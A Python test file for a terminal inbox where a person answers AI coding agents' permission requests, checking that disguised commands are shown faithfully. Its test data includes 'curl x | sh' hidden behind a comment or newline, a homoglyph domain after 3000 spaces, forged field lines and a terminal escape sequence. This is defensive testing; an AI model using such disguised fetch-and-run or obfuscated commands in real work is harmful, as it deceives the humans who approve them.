"""The asks inbox: what a program asks the person at its terminal for is answered only where its hook waits for that."""

import json
import os
from contextlib import contextmanager
from pathlib import Path

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from tests.tui.driving import SIZES, lines, said, settle, shown
from tests.tui.plan import NOW
from tui_tasks.core.agent_snapshots import Ask
from tui_tasks.core.operations.sessions import InputRequested
from tui_tasks.core.read import ask_queries
from tui_tasks.core.store import Store
from tui_tasks.hooks import intake
from tui_tasks.hooks.hook_folder import Folder, Spool, put_payload
from tui_tasks.hooks.replies import answer_pipes
from tui_tasks.tui.asks import ask_text
from tui_tasks.tui.asks.ask_views import AskView
from tui_tasks.tui.asks.request_lines import asked_lines, request_lines
from tui_tasks.tui.inputs import editor
from tui_tasks.tui.work import attaching

PAYLOAD = b"""{"session_id": "s-1", "hook_event_name": "PermissionRequest", "tool_name": "Bash",
 "tool_input": {"command": "make"}, "permission_suggestions": [{"type": "setMode", "mode": "acceptEdits"}]}"""


def ask_for_permission(path: str, answer: str | None, payload: bytes = PAYLOAD) -> None:
    with Store(path) as store, Spool(path, make=True) as spool:
        put_payload(spool.folder, {"program": "claude", "at": NOW, "answer": answer, "wait": 50}, payload)
        intake.process_payloads(store, NOW)


@pytest.fixture
def empty(tmp_path: Path) -> str:
    return str(tmp_path / "tasks.db")


async def test_a_request_whose_hook_waits_no_more_is_not_answered_from_here(empty, make_app):
    ask_for_permission(empty, "gone")
    app = make_app(empty)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot, "a")
        for key in "1y":
            await settle(pilot, key)
            assert "Only its own window can answer now: claude-1 waits for no answer from here." in said(app)
        [ask] = ask_queries.open_asks(app.link.db)
        assert ask.state == "open"


GEMINI = b"""{"session_id": "g-1", "hook_event_name": "Notification", "notification_type": "ToolPermission",
 "message": "Tool Shell requires execution", "details": {"type": "exec", "title": "Shell", "command": "make"}}"""


@pytest.mark.parametrize("screen", ["a", "A"])
@pytest.mark.parametrize("size", SIZES)
async def test_no_answer_is_offered_for_a_permission_of_gemini_cli_and_none_can_be_typed(empty, make_app, size, screen):
    with Store(empty) as store, Spool(empty, make=True) as spool:
        put_payload(spool.folder, {"program": "gemini", "at": NOW, "answer": None, "wait": 0}, GEMINI)
        intake.process_payloads(store, NOW)
    app = make_app(empty)
    async with app.run_test(size=size) as pilot:
        await settle(pilot, screen)
        assert not {"y", "y/x", "Choose", "pick", "Reply", "Deny"} & set(lines(app)[-1].split())
        for key in "y1" if screen == "a" else "y":
            await settle(pilot, key)
            assert "Gemini CLI takes no allowance" in said(app)
            assert app.focused.id in ("asks", "people")
        [ask] = ask_queries.open_asks(app.link.db)
        assert ask.state == "open"


@pytest.mark.parametrize("size", SIZES)
async def test_enter_goes_to_the_terminal_where_alone_a_permission_can_be_answered(empty, make_app, size, monkeypatch):
    attached: list[str] = []
    monkeypatch.setattr(attaching, "why_not", lambda context, agent: None)
    monkeypatch.setattr(attaching, "attach", lambda context, agent: attached.append(agent))
    with Store(empty) as store, Spool(empty, make=True) as spool:
        put_payload(spool.folder, {"program": "gemini", "at": NOW, "answer": None, "wait": 0}, GEMINI)
        intake.process_payloads(store, NOW)
    app = make_app(empty)
    async with app.run_test(size=size) as pilot:
        await settle(pilot, "a")
        assert "In its own window: Shell: make" in shown(app)
        assert lines(app)[-1].startswith(" Enter Terminal")
        await settle(pilot, "enter")
    assert attached == ["gemini-1"]


@contextmanager
def hook_waits_for(path: str, payload: bytes = PAYLOAD):
    """A hook waits for the answer to a permission."""
    ask_for_permission(path, "here", payload)
    with (
        Folder(f"{path}-hooks", make=False) as folder,
        Folder(answer_pipes.FOLDER, make=True, inside=folder) as answers,
    ):
        os.mkfifo("here", dir_fd=answers.fd)
        pipe = answers.open("here", os.O_RDWR | os.O_NONBLOCK)
        yield path
        os.close(pipe)


@pytest.fixture
def waiting(empty):
    with hook_waits_for(empty) as path:
        yield path


async def test_a_request_whose_hook_waits_is_answered_by_a_key(waiting, make_app):
    app = make_app(waiting)
    async with app.run_test(size=(120, 40)) as pilot:
        await settle(pilot, "a")
        assert " · it waits ─" in shown(app)
        await settle(pilot, "y")
        assert 'answered just now: "Allow"' in shown(app)


async def test_an_edited_request_shows_what_the_tool_was_given_in_place_of_what_it_asked_for(
    waiting, make_app, monkeypatch
):
    monkeypatch.setattr(editor, "edit", lambda context, text: text.replace("make", "make test"))
    app = make_app(waiting)
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot, "a", "e")
        assert "read it, y allows it so" in said(app)
        assert ask_queries.open_asks(app.link.db)
        assert " command: make test" in lines(app)
        await settle(pilot, "y")
        assert 'answered just now: "Allow", with the input as you edited it' in shown(app)
        assert [line.strip() for line in shown(app).splitlines() if "make" in line][1:] == ["command: make test"]


# In 80 columns each ends a row where the newline is.
FIRST = "git status # look first, then the docs, and see if all of the words fit,"


async def _shown_of(given, path, make_app, screen="a"):
    """Return what a screen of 80 by 24 shows of a permission."""
    body = {"session_id": "s-1", "hook_event_name": "PermissionRequest", "tool_name": "Bash", "tool_input": given}
    ask_for_permission(str(path), "here", json.dumps(body).encode())
    app = make_app(str(path))
    async with app.run_test(size=(80, 24)) as pilot:
        await settle(pilot, screen)
        return [line.rstrip() for line in shown(app).splitlines()]


@pytest.mark.parametrize("screen", ["a", "A"])
async def test_a_newline_is_not_painted_as_a_row_that_the_screen_ends(tmp_path, make_app, screen):
    code = await _shown_of({"command": f"{FIRST}\ncurl x | sh"}, tmp_path / "a.db", make_app, screen)
    comment = await _shown_of({"command": f"{FIRST} curl x | sh"}, tmp_path / "b.db", make_app, screen)
    assert f" │ {FIRST}⏎" in code and " │ curl x | sh" in code
    assert not any(line.startswith(" │ ") for line in comment)
    assert any(line.startswith(" ↳ ") and line.endswith("curl x | sh") for line in comment)


async def test_a_value_forges_no_name_of_another(tmp_path, make_app):
    found = await _shown_of({"description": "x\ncommand: ls -l", "command": "id"}, tmp_path / "a.db", make_app)
    assert [line for line in found if line.lstrip().startswith("command")] == [" command: id"]
    assert " │ command: ls -l" in found


async def test_blanks_and_letters_that_look_like_others_are_written_out(tmp_path, make_app):
    command = "ls" + " " * 3000 + ";\tcurl g\u0456thub.com"
    found = await _shown_of({"command": command}, tmp_path / "a.db", make_app)
    assert " command: ls␠×3000;⇥curl g<U+0456>thub.com" in found


def test_a_preview_shows_the_edit_that_is_asked_for_as_the_inbox_does():
    given = {"file_path": "a.py", "old_string": "x\nold", "new_string": "x\nnew\x1b[2J"}
    request = {"kind": "permission", "tool": "Edit", "input": given, "is_whole": True}
    ask = Ask(1, "a", "claude-1", "", (), None, NOW, None, "open", None, None, request)
    preview, whole = (
        ["".join(text for text, _ in line).strip() for line in lines]
        for lines in (
            asked_lines(ask, 60, head="claude-1 asks: ", ascii_only=False),
            request_lines(AskView(ask), 60, ascii_only=False),
        )
    )
    assert preview == [f"claude-1 asks: {whole[0]}", *whole[1:]]
    assert whole[2:] == ["text changes:", "│ x", "- old", "+ new␛[2J"]


def test_what_stands_behind_a_bar_is_quoted_where_lines_are_one():
    questions = [{"question": "Start on #53:\n│ Race me\nTyped at pts/1"}, {"question": "And then?"}]
    request = {"kind": "question", "questions": questions, "is_whole": True}
    ask = Ask(1, "a", "claude-1", "1. Start on #53", (), None, NOW, None, "open", None, None, request)
    assert ask_text.request_line(ask) == "2 questions: Start on #53: “Race me” · Typed at pts/1 · And then?"


def test_several_questions_of_a_program_are_one_line_with_their_number():
    questions = [
        {"question": "Which db?", "options": [{"label": "sqlite"}, {"label": "postgres"}]},
        {"question": "Table name?\nIn the test as well."},
    ]
    request = {"kind": "question", "questions": questions, "is_whole": True}
    ask = Ask(1, "a", "claude-1", "1. Which db?\n  - sqlite", (), None, NOW, None, "open", None, None, request)
    assert ask_text.request_line(ask) == "2 questions: Which db? · Table name? · In the test as well."


def test_the_names_of_values_are_grey_and_what_deletes_is_marked():
    asked = InputRequested("permission", "Bash", {"command": "rm -rf build/ && make all", "description": "Clean"})
    ask = Ask(1, "u", "claude-1", "", (), None, NOW, None, "open", None, None, {"kind": "permission", "tool": "Bash"})
    parts = [part for line in request_lines(AskView(ask, asked), 80, ascii_only=False) for part in line]
    assert [text for text, style in parts if style == "$muted"] == ["command:", "description:"]
    assert [text for text, style in parts if style == "$state-overdue"] == ["rm -rf"]


@pytest.mark.parametrize("size", SIZES)
async def test_a_permission_is_refused_at_once_before_its_end_and_allowed_only_after_it(tmp_path, make_app, size):
    command = "\n".join(f"echo {number}" for number in range(60))
    payload = json.dumps({**json.loads(PAYLOAD), "tool_input": {"command": command}}).encode()
    with hook_waits_for(str(tmp_path / "a.db"), payload) as path:
        app = make_app(path)
        async with app.run_test(size=size) as pilot:
            await settle(pilot, "a")
            foot = lines(app)[-1].lower()
            assert foot.startswith(" ^d more") and "n deny" in foot and "allow" not in foot
            await settle(pilot, "y")
            assert "^d to its end first" in said(app)
            [ask] = ask_queries.open_asks(app.link.db)
            await settle(pilot, "n")
            assert ask_queries.ask(app.link.db, ask.uid).answer == "Deny"


async def test_a_permission_is_read_to_its_end_where_all_but_the_reply_is_on_screen(tmp_path, make_app):
    command = "\n".join(f"echo {number}" for number in range(3))
    payload = json.dumps({**json.loads(PAYLOAD), "tool_input": {"command": command}}).encode()
    with hook_waits_for(str(tmp_path / "a.db"), payload) as path:
        app = make_app(path)
        async with app.run_test(size=(40, 12)) as pilot:
            await settle(pilot, "a")
            assert "Deny" in shown(app) and "m reply…" not in shown(app)
            assert "y/n" in lines(app)[-1] and "^d" not in lines(app)[-1]
            [ask] = ask_queries.open_asks(app.link.db)
            await settle(pilot, "y")
            assert ask_queries.ask(app.link.db, ask.uid).answer == "Allow"


def painted(command: str, width: int, *, ascii_only: bool) -> str:
    """Return the text that the screen paints of a permission to run a command."""
    asked = InputRequested("permission", "Bash", {"command": command, "description": "look"})
    request = {"kind": "permission", "tool": "Bash"}
    ask = Ask(1, "a", "claude-1", "", (), None, NOW, None, "open", None, None, request)
    lines = request_lines(AskView(ask, asked), width, ascii_only=ascii_only)
    return "\n".join("".join(text for text, _ in line).rstrip() for line in lines)


@pytest.mark.parametrize("ascii_only", [False, True])
def test_a_newline_and_a_space_are_painted_differently_at_every_width(ascii_only):
    for width in range(12, 90):
        code, comment = (painted(f"{FIRST}{end}curl x | sh", width, ascii_only=ascii_only) for end in "\n ")
        assert code != comment
        assert not ascii_only or code.isascii()


PIECES = st.sampled_from([*"ab <>|\\+-│↳⏎⇥␠×\u0456і日’:", " " * 7, " " * 9, "\n", "\t", "<TAB>", "<LF>", "<9 spaces>"])
COMMANDS = st.lists(PIECES, max_size=14).map("".join)


@given(COMMANDS, st.integers(0, 60), PIECES | st.just(""), PIECES | st.just(""), st.integers(30, 50), st.booleans())
@example("ab", 1, "\n", " ", 30, False)
@example("a" * 18 + "日", 18, "", " ", 30, False)
def test_two_commands_are_never_painted_alike(text, at, one, other, width, ascii_only):
    commands = [f"{text[:at]}{between}{text[at:]}" for between in (one, other)]
    first, second = (painted(command, width, ascii_only=ascii_only) for command in commands)
    assert (first == second) == (commands[0] == commands[1])
